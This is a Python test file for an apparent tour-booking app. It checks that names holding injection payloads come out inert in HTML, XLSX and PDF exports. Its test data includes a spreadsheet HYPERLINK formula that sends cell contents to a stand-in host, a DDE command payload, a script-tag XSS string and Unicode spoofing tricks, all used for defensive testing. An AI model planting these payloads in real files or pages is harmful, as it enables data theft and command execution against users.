"""Guests, groups and words whose names are really code stay words on what hosts read."""

import io
import zipfile
from collections.abc import Callable, Iterator
from datetime import datetime, time, timedelta

import pytest
import time_machine

from tests import making
from tests.browser_client import Browser
from tests.visits.guests import VISIT, Visit, ask, make_visit, tell
from tests.visits.test_lists import pdf_words
from tourbook.accounts.models import User
from tourbook.bookings.rules.needs import Wishes
from tourbook.core.texts import Texts
from tourbook.documents import sheets
from tourbook.hosts.models import ComponentKind, VisitorField

SignIn = Callable[[User], Browser]
SCRIPT = "<script>alert(1)</script>"
NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"Aino")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    f"Aino {SCRIPT} {{{{7*7}}}} #panic() $x$ *b* _i_ \\ @ref <label>",
    "Aino \N{RIGHT-TO-LEFT OVERRIDE}imikisE",
    "Ai\N{ZERO WIDTH SPACE}no",
)


@pytest.fixture(autouse=True)
def week_before() -> Iterator[None]:
    at = datetime.combine(VISIT - timedelta(days=7), time(12), making.HELSINKI)
    with time_machine.travel(at, tick=False):
        yield


def hostile_visit(kind: ComponentKind) -> Visit:
    visit = make_visit(kind, places=len(NAMES))
    visit.component.name = Texts(en=NAMES[5])
    visit.booking.delegation.name = NAMES[5]
    visit.host.name = NAMES[0]
    ask(visit.component, *VisitorField)
    for name in NAMES:
        tell(visit.booking, name, diet=Wishes(("halal",), f"=1+1 {SCRIPT} #panic()"))
    return visit


KINDS = [ComponentKind.PROGRAMME, ComponentKind.MEAL, ComponentKind.LODGING]


@pytest.mark.parametrize("kind", [*KINDS, ComponentKind.TRANSPORT])
def test_no_list_runs_what_a_guest_wrote(app: object, sign_in: SignIn, kind: ComponentKind) -> None:
    visit = hostile_visit(kind)
    host = sign_in(visit.host)

    page = host.post(visit.url, data={"as": "page"})
    workbook = host.post(visit.url, data={"as": "xlsx"})
    paper = host.post(visit.url, data={"as": "pdf"})

    assert {page.status_code, workbook.status_code, paper.status_code} == {200}
    assert SCRIPT not in page.text
    assert "&lt;script&gt;" in page.text
    assert "7*7" in page.text
    assert "SUM(1+1)" in pdf_words(paper.data)
    with zipfile.ZipFile(io.BytesIO(workbook.data)) as packed:
        sheet = packed.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    cells = {cell for row in sheets.read_table(workbook.data, "list.xlsx") for cell in row}
    assert any(cell.startswith(("=", "+")) for cell in cells)
